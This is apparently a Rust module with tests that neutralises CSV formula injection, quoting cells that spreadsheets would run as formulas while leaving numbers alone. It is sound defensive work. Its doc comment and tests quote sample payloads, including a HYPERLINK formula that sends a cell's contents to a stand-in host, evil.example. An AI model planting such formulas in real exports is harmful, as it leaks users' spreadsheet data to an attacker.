//! The one rule every CSV file the service writes follows for its cells, so that a cell of
//! people's text is never run as a formula by the spreadsheet that opens the file (CSV or
//! "formula" injection: `=HYPERLINK("https://evil.example/?"&A1, "Click")`, `@SUM(…)`, a DDE
//! call). OWASP's rule: a cell that begins with `=`, `+`, `-`, `@`, TAB or CR is written with
//! a single quote in front, which spreadsheets show as text and never evaluate.
//!
//! A cell that is wholly a number (`-12.5`, `+3`, `1e-4`) is left as it is: a number cannot
//! call a function or build a link, and prefixing it would turn every negative figure (a
//! saving, a fall in emissions) into text that a spreadsheet no longer sums, and that our own
//! importers no longer read as a number. `-1+2` is not a number and is prefixed.
//!
//! A cell that already begins with quotes before such a character (`'=x`, a person really
//! typed it) gets one more (`''=x`), so [`restore`] — which the register importer applies to
//! text columns of a CSV file — can take exactly one quote off what [`neutralise`] added, and
//! a file exported and imported again gives back the same text, quotes and all.

use std::borrow::Cow;

/// The characters a spreadsheet may treat as the start of a formula.
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// The cell as a CSV writer must write it: with a single quote in front when a spreadsheet
/// would read it as a formula, otherwise unchanged (and not copied).
pub fn neutralise(cell: &str) -> Cell<'_> {
    Cell(if needs_quote(cell.trim_start_matches('\'')) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    })
}

/// A cell as [`neutralise`] writes it: text, and a field the `csv` crate's writers take.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Cell<'a>(Cow<'a, str>);

impl std::ops::Deref for Cell<'_> {
    type Target = str;
    fn deref(&self) -> &str {
        &self.0
    }
}

impl AsRef<[u8]> for Cell<'_> {
    fn as_ref(&self) -> &[u8] {
        self.0.as_bytes()
    }
}

/// A cell read from a CSV file that [`neutralise`] may have written: the quote it added taken
/// off, anything else unchanged. `restore(&neutralise(s)) == s` for every `s`.
pub fn restore(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if needs_quote(rest.trim_start_matches('\'')) => rest,
        _ => cell,
    }
}

/// Whether `text` (with any leading quotes already removed) starts like a formula and is not
/// simply a number.
fn needs_quote(text: &str) -> bool {
    text.starts_with(FORMULA_STARTS) && !is_number(text)
}

/// A plain decimal number, optionally signed, optionally with an exponent: `-12.5`, `+3`,
/// `-.5`, `1.2E+3`. Nothing else (no spaces, no thousands separators, no second sign).
fn is_number(text: &str) -> bool {
    let s = text.strip_prefix(['+', '-']).unwrap_or(text);
    let (mantissa, exponent) = match s.find(['e', 'E']) {
        Some(i) => (&s[..i], Some(&s[i + 1..])),
        None => (s, None),
    };
    let (whole, fraction) = mantissa.split_once('.').unwrap_or((mantissa, ""));
    let digits = |d: &str| d.bytes().all(|b| b.is_ascii_digit());
    let mantissa_ok =
        digits(whole) && digits(fraction) && !(whole.is_empty() && fraction.is_empty());
    let exponent_ok = exponent.is_none_or(|e| {
        let e = e.strip_prefix(['+', '-']).unwrap_or(e);
        !e.is_empty() && digits(e)
    });
    mantissa_ok && exponent_ok
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formula_starts_are_quoted() {
        for cell in [
            "=HYPERLINK(\"https://evil.example\",\"x\")",
            "+1+2",
            "-1+2",
            "@SUM(A1:A2)",
            "\t=1",
            "\r=1",
            "-",
            "+",
            "=",
            "- a list item",
            "-1 kWh",
            "--5",
            "-e5",
            "-.",
        ] {
            assert_eq!(&*neutralise(cell), format!("'{cell}"), "{cell:?}");
        }
    }

    #[test]
    fn numbers_and_plain_text_are_left_alone() {
        for cell in [
            "-12.5",
            "+3",
            "-0",
            "-.5",
            "-5.",
            "1.2E+3",
            "-1e-4",
            "12.5",
            "hello",
            "",
            "'hello",
            "a=b",
            " =1",
            "2025-04-01",
        ] {
            assert_eq!(&*neutralise(cell), cell, "{cell:?}");
        }
    }

    #[test]
    fn a_quote_the_person_typed_survives_the_round_trip() {
        assert_eq!(&*neutralise("'=x"), "''=x");
        assert_eq!(restore("''=x"), "'=x");
        assert_eq!(restore("'=x"), "=x");
        assert_eq!(restore("'hello"), "'hello");
        assert_eq!(restore("'-12.5"), "'-12.5");
    }

    /// Every short string over an alphabet of the characters that matter reads back as it was
    /// written: `restore` undoes exactly what `neutralise` did.
    #[test]
    fn restore_undoes_neutralise_for_every_short_cell() {
        let alphabet = [
            '\'', '=', '+', '-', '@', '\t', '\r', '1', '.', 'e', 'a', ' ',
        ];
        let mut cells = vec![String::new()];
        for _ in 0..5 {
            let longer: Vec<String> = cells
                .iter()
                .filter(|c| c.chars().count() == cells.last().map_or(0, |l| l.chars().count()))
                .flat_map(|c| alphabet.iter().map(move |ch| format!("{c}{ch}")))
                .collect();
            cells.extend(longer);
        }
        assert!(cells.len() > 200_000);
        for cell in &cells {
            let written = neutralise(cell);
            assert_eq!(restore(&written), cell.as_str(), "{cell:?} → {written:?}");
            assert!(
                !written.starts_with(FORMULA_STARTS) || is_number(&written),
                "{cell:?} written as {written:?}"
            );
        }
    }
}
